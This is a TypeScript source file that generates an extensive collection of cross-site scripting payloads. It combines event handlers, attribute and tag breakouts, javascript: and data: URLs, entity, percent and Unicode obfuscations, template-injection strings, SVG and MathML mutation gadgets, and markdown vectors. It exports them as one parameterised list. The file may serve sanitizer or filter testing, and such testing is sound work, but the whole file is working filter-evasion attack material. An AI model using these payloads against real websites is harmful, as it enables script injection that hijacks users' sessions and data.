/** A text that would like to run `call`; each has its own number in it, by which it is found again. */
type Payload = (call: string) => string

const script: Payload = (call) => `<script>${call}</script>`
const image: Payload = (call) => `<img src=x onerror=${call}>`

/** What has an event that fires without anybody doing anything, and what needs a hand. */
const handlers: readonly (readonly [tag: string, event: string])[] = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["details open", "ontoggle"],
  ["audio src=x", "onerror"],
  ["video src=x", "onerror"],
  ["video><source", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button popovertarget=main", "onclick"],
  ["marquee", "onstart"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["embed src=x", "onload"],
  ["style", "onload"],
  ["link rel=stylesheet href=x", "onerror"],
  ["script src=x", "onerror"],
  ["a href=#", "onmouseover"],
  ["div tabindex=0 autofocus", "onfocusin"],
  ["p style=animation:x", "onanimationstart"],
  ["xss style=transition:color", "ontransitionend"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onbegin"],
]

/** Ways of writing an attribute that a filter may not expect. */
const spellings: readonly ((tag: string, event: string, call: string) => string)[] = [
  (tag, event, call) => `<${tag} ${event}=${call}>`,
  (tag, event, call) => `<${tag} ${event}="${call}">`,
  (tag, event, call) => `<${tag.toUpperCase()}\n${event.toUpperCase()} = '${call}'//`,
  (tag, event, call) => `<${tag.replaceAll(" ", "/")}/${event}=\`${call}\`;${call}>`,
]

const closers = [
  `">`,
  `'>`,
  "-->",
  "]]>",
  "?>",
  "*/",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</select>",
  "</svg>",
  "</math>",
  "</code></pre>",
  "</dd></dl>",
  "</main></body>",
]

const scripts: readonly Payload[] = [
  script,
  (call) => `<SCRIPT >${call}</SCRIPT >`,
  (call) => `<script/x>${call}</script\n>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script type=application/json>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script>/*<![CDATA[*/${call}//]]></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<noscript><p title="</noscript>${image(call)}">`,
]

const quotes: readonly Payload[] = [
  (call) => `" onmouseover="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `"onfocus=${call} autofocus tabindex=1 x="`,
  (call) => `" style="animation:x" onanimationstart="${call}`,
  (call) => `x" href="javascript:${call}" x="`,
  (call) => `\`onerror=${call}`,
  (call) => `"><a href="javascript:${call}" autofocus>x</a>`,
  (call) => `&quot; onload=&quot;${call}`,
]

const base64 = (text: string) => Buffer.from(text).toString("base64")

const addresses: readonly Payload[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript\u200b:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;&#97;vascript:${call}`,
  (call) => `javascript://x.invalid/%0a${call}`,
  (call) => `javascript:/*--></title></style></textarea></script><svg/onload=${call}>*/`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,${script(call)}`,
  (call) => `data:text/html;base64,${base64(script(call))} ${call}`,
  (call) => `data:image/svg+xml,<svg onload=${call} xmlns='http://www.w3.org/2000/svg'/>`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `//x.invalid/${call}`,
  (call) => `https://x.invalid/"onmouseover="${call}`,
  (call) => `mailto:x@x.invalid?x="onfocus="${call}`,
]

const encoded: readonly Payload[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
  (call) => `&ltimg src=x onerror=${call}&gt`,
  (call) => `&amp;lt;script&amp;gt;${call}`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
  (call) => `\\74script\\76${call}`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `‹img src=x onerror=${call}›`,
  (call) => `<%00script>${call}</script>`,
  (call) => `<\u0001img src=x onerror=${call}>`,
  (call) => `<img src=x o\u00adnerror=${call}>`,
  (call) => `<img\u000bsrc=x\u000bonerror=${call}>`,
  (call) => `<img src=x onerror\u3000=${call}>`,
  (call) => `\ufeff<script>${call}</script>`,
  (call) => `<\u200bscript>${call}</script>`,
]

const directed: readonly Payload[] = ["\u202e", "\u202a", "\u2066", "\u2067", "\u200f"].map(
  (mark) => (call) => `${mark}<script>${call}</script>\u202c\u2069x`,
)

const templates: readonly Payload[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{{${call}}}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `@{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{% ${call} %}`,
  (call) => `[[${call}]]`,
  (call) => `{${call}}`,
  (call) => `<?php ${call} ?>`,
  (call) => `<x :onload=${call} @load=${call} ng-init=${call}>`,
  (call) => `<slot onslotchange=${call}></slot>`,
]

const comments: readonly Payload[] = [
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<!--[if IE]><script>${call}</script><![endif]-->`,
  (call) => `<!-- --!>${image(call)}`,
  (call) => `<![CDATA[><script>${call}</script>]]>`,
  (call) => `<?xml-stylesheet href="javascript:${call}"?>`,
  (call) => `<!DOCTYPE x [<!ENTITY e "${script(call)}">]>&e;`,
  (call) => `<!${image(call)}`,
  (call) => `</${image(call)}`,
]

const foreign: readonly Payload[] = [
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text>x</text></a>`,
  (call) => `<svg><foreignObject>${image(call)}</foreignObject></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  (call) => `<svg></p><style><a id="</style>${image(call)}">`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  (call) => `<math><mtext><table><mglyph><style><!--</style>${image(call)}`,
  (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math>${image(call)}`,
]

const documents: readonly Payload[] = [
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv="refresh" content="0;url=data:text/html,${script(call)}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<template shadowrootmode=open>${image(call)}</template>`,
  (call) => `<dialog open onclose=${call}></dialog>`,
]

const inScripts: readonly Payload[] = [
  (call) => `";${call};//`,
  (call) => `'-${call}-'`,
  (call) => `\\";${call};//`,
  (call) => `\u2028${call}\u2029`,
  (call) => `\\u0022;${call}//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `*/${call}/*`,
  (call) => `<!--<script>${call}`,
  (call) => `"]};${call};x={"y":["`,
  (call) => `__proto__ ${call}`,
]

const markdown: readonly Payload[] = [
  (call) => `[x](javascript:${call})`,
  (call) => `[x](  JAVASCRIPT:${call} "x")`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `![x](data:text/html,${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[x]\n\n[x]: javascript:${call}`,
  (call) => `\`\`\`html\n${script(call)}\n\`\`\``,
  (call) => `# ${image(call)}`,
  (call) => `| ${image(call)} |\n| --- |`,
  (call) => `[^1]\n\n[^1]: ${image(call)}`,
]

const styles: readonly Payload[] = [
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<p style="x:expression(${call})">x</p>`,
  (call) => `<p style="background:url(javascript:${call})">x</p>`,
]

/** Every text that would like to run: the classes of such texts, combined. */
export const payloads: readonly Payload[] = [
  ...handlers.flatMap(([tag, event]) =>
    spellings.map(
      (spelling): Payload =>
        (call) =>
          spelling(tag, event, call),
    ),
  ),
  ...closers.flatMap((closer) =>
    [script, image].map(
      (core): Payload =>
        (call) =>
          closer + core(call),
    ),
  ),
  ...[scripts, quotes, addresses, encoded, directed, templates, comments, foreign].flat(),
  ...[documents, inScripts, markdown, styles].flat(),
]
